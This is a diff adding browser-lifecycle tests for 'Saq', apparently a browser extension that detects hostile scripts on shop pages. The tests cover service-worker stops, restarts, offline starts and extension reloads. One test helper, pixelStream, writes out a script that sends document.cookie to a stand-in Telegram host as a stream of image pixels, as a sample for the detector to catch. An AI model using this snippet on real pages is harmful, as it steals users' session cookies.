@@ -1,0 +1,175 @@
+/**
+ * The extension's life in a real browser: its background stopped mid-verdict and mid-update (Chromium's
+ * service worker, stopped as the browser stops an idle one), a browser restart with the same profile, an
+ * offline first start, a tab left open across an extension reload. Findings and feed state survive or are
+ * rebuilt, nothing is counted twice, no alarm is lost, and the page never sees an error from Saq.
+ *
+ * What a browser cannot do here is unit-tested with fakes instead: storage quota errors
+ * (tests/unit/lifecycle/storage-quota.test.ts, feed rows #52), an extension update with an older baseline
+ * (feed rows #13 and #42: it needs two differently signed builds), a worker killed at every await of a
+ * refresh (#51). Firefox has no service worker to stop: its event page's suspension is the same storage
+ * path (storage.session for findings, storage.local for the feed), exercised by the restart test below.
+ */
+import { mkdtempSync, rmSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { randomUUID } from 'node:crypto';
+import { expect, it } from 'vitest';
+import { FEED_ALARM } from '../../src/background/feed-updater.ts';
+import { verdictKey } from '../../src/background/tab-findings.ts';
+import { fromCdn, helperAttack, telegramUrl } from '../helpers/hostile/attacks.ts';
+import { serveHostilePage } from '../helpers/hostile/pages.ts';
+import { autoBuyScript, HELPER_CDN } from '../helpers/hostile-scripts.ts';
+import { HELPER_EXTENSION, TEST_BUILD } from '../helpers/paths.ts';
+import { describeEachBrowser, eventually } from './each-browser.ts';
+import { expectNoPageErrors, mentions, ofKind, open, personAddsToCart, verdicts, waitForVerdicts } from './hostile-support.ts';
+import { alarmNames, checkNow, feedStatus, MIRROR, publishFeed, setMirrors, stopServiceWorker } from './lifecycle-support.ts';
+
+const PRODUCT = '/kz/product/snow-leopard-silver';
+const PIXELS = 40;
+
+/** A helper that sends the cookie out as 40 pixels to 40 addresses, one every 80 ms. */
+function pixelStream(tag: string): string {
+  return `(() => { let i = 0; const t = setInterval(() => {
+    new Image().src = ${JSON.stringify(telegramUrl(tag))} + '/p' + i + '?c=' + encodeURIComponent(document.cookie);
+    if (++i >= ${PIXELS}) { clearInterval(t); window.__pixelsDone = true; }
+  }, 80); })();`;
+}
+
+describeEachBrowser('lifecycle', (context) => {
+  const reservations = (): number => context.shop.requests.filter((r) => r.path === '/api/cart/reserve').length;
+
+  if (context.browserName === 'chromium') {
+    it('the service worker stopped while it judges a stream of findings: every one judged once, none lost, the alarm kept', async () => {
+      const saq = await context.launch();
+      const tag = 'worker-stopped';
+      const path = await serveHostilePage(
+        context.shop,
+        `${PRODUCT}?life=${tag}`,
+        PRODUCT,
+        { end: fromCdn(tag) },
+        { [tag]: pixelStream(tag) },
+      );
+      const visit = await open(saq, path);
+      await eventually(async () => (await verdicts(saq, visit.tabId)).some(ofKind('exfiltration')), Boolean, 'the first pixels judged');
+      await stopServiceWorker(saq);
+      await eventually(
+        () => visit.page.evaluate(() => (window as unknown as { __pixelsDone?: boolean }).__pixelsDone === true),
+        Boolean,
+        'the helper to finish',
+      );
+      const pixelPath = (i: number): string => `${new URL(telegramUrl(tag)).pathname}/p${i}`;
+      const all = await eventually(
+        () => verdicts(saq, visit.tabId),
+        (list) => Array.from({ length: PIXELS }, (_, i) => i).every((i) => list.some(ofKind('exfiltration', mentions(pixelPath(i))))),
+        `all ${PIXELS} pixels judged, before and after the worker stopped`,
+      );
+      const keys = all.map(verdictKey);
+      expect(keys.length, 'a verdict counted twice').toBe(new Set(keys).size);
+      expect((await saq.report(visit.tabId)).findingCount).toBeGreaterThanOrEqual(PIXELS);
+      expect(await alarmNames(saq)).toContain(FEED_ALARM);
+      expectNoPageErrors(visit);
+    });
+
+    it('the service worker stopped in the middle of a feed update: nothing half-stored, the alarm kept, the next refresh completes', async () => {
+      const saq = await context.launch();
+      const rulesPath = await publishFeed(context.shop, 2);
+      const release = context.shop.feed.hold(rulesPath);
+      await setMirrors(saq, [MIRROR]);
+      void checkNow(saq).catch(() => undefined); // answered by a worker that will not live to answer
+      await eventually(
+        async () => context.shop.requests.some((r) => r.path === `/${rulesPath}`),
+        Boolean,
+        'the update to be fetching the rules',
+      );
+      await stopServiceWorker(saq);
+      release();
+      const after = await feedStatus(saq); // wakes a fresh worker, which re-verifies what storage holds
+      expect(after.rulesVersion).toBe(1);
+      expect(await alarmNames(saq)).toContain(FEED_ALARM);
+      expect(await checkNow(saq)).toMatchObject({ rulesVersion: 2, state: 'ok' });
+      await stopServiceWorker(saq);
+      expect((await feedStatus(saq)).rulesVersion).toBe(2);
+    });
+  }
+
+  it('a browser restart with the same profile: the feed state survives, the alarm is there, detection works', async () => {
+    const profile = mkdtempSync(join(tmpdir(), 'saq-profile-'));
+    const firefoxUuid = randomUUID();
+    context.shop.setFixture('/autobuy.js', autoBuyScript(), { host: HELPER_CDN, contentType: 'text/javascript' });
+    try {
+      await publishFeed(context.shop, 2);
+      const first = await context.launch({ userDataDir: profile, firefoxUuid, extraExtensions: [HELPER_EXTENSION] });
+      await setMirrors(first, [MIRROR]);
+      expect(await checkNow(first)).toMatchObject({ rulesVersion: 2, state: 'ok' });
+      await first.close();
+
+      const second = await context.launch({ userDataDir: profile, firefoxUuid, extraExtensions: [HELPER_EXTENSION] });
+      expect((await feedStatus(second)).rulesVersion).toBe(2);
+      expect(await alarmNames(second)).toContain(FEED_ALARM);
+      const visit = await open(second, PRODUCT);
+      await waitForVerdicts(second, visit.tabId, { 'the helper caught after the restart': ofKind('untrusted-activation') });
+      expect((await second.report(visit.tabId)).rulesVersion).toBe('2');
+      await second.close();
+    } finally {
+      rmSync(profile, { recursive: true, force: true });
+    }
+  });
+
+  it('offline first start: no mirror answers, the signed baseline judges, the status says so', async () => {
+    context.shop.setFixture('/autobuy.js', autoBuyScript(), { host: HELPER_CDN, contentType: 'text/javascript' });
+    const saq = await context.launch({ extraExtensions: [HELPER_EXTENSION] });
+    // Unresolvable in Chromium (no host rule for it), refused by the replica's proxy in Firefox.
+    await setMirrors(saq, ['https://offline-mirror.invalid/', MIRROR]);
+    const status = await checkNow(saq); // the feed host has no files at all: 404
+    expect(status).toMatchObject({ rulesVersion: 1, state: 'error' });
+    expect(status.lastError?.code).toMatch(/^(NETWORK|HTTP_STATUS|TIMEOUT)$/);
+    const visit = await open(saq, PRODUCT);
+    await waitForVerdicts(saq, visit.tabId, { 'the helper caught by the baseline': ofKind('untrusted-activation') });
+    const popup = await saq.openPopup(visit.tabId);
+    const panel = await popup.$eval('[data-testid="feed-status"]', (node) => ({
+      state: node.getAttribute('data-state'),
+      text: node.textContent ?? '',
+    }));
+    expect(panel.state).toBe('error');
+    expect(panel.text).toContain('1');
+  });
+
+  it('a tab open across an extension reload: no error in the page, the shop works, the reloaded page is watched again', async () => {
+    const saq = await context.launch();
+    const tag = 'across-reload';
+    const path = await serveHostilePage(
+      context.shop,
+      `${PRODUCT}?life=${tag}`,
+      PRODUCT,
+      { end: fromCdn(tag) },
+      { [tag]: helperAttack('page', tag) },
+    );
+    const visit = await open(saq, path);
+    await waitForVerdicts(saq, visit.tabId, { 'the helper before the reload': ofKind('exfiltration', mentions(tag)) });
+    // Installing the same build again reloads the extension, as an update or a developer's reload does.
+    // (chrome.runtime.reload() would do the same for a person; for an extension loaded over CDP, as the
+    // harness loads it, Chromium unloads it and does not bring it back.)
+    await saq.browser.installExtension(TEST_BUILD[saq.name]);
+    // The old content scripts are orphaned: they must not throw into the page, and the shop still works.
+    await new Promise((resolve) => setTimeout(resolve, 2_100));
+    await personAddsToCart(visit.page, reservations);
+    await visit.page.evaluate(
+      (code) => {
+        const s = document.createElement('script');
+        s.textContent = code;
+        document.body.append(s);
+      },
+      helperAttack('page', `${tag}-orphaned`),
+    );
+    await new Promise((resolve) => setTimeout(resolve, 1_000));
+    expectNoPageErrors(visit);
+    // A reload of the page brings Saq's new content scripts: the helper is seen again, once.
+    await visit.page.reload({ waitUntil: 'load' });
+    const tabId = await saq.tabIdOf(visit.page);
+    const list = await waitForVerdicts(saq, tabId, { 'the helper after the page reload': ofKind('exfiltration', mentions(tag)) });
+    const keys = list.map(verdictKey);
+    expect(keys.length).toBe(new Set(keys).size);
+    expectNoPageErrors(visit);
+  });
+});
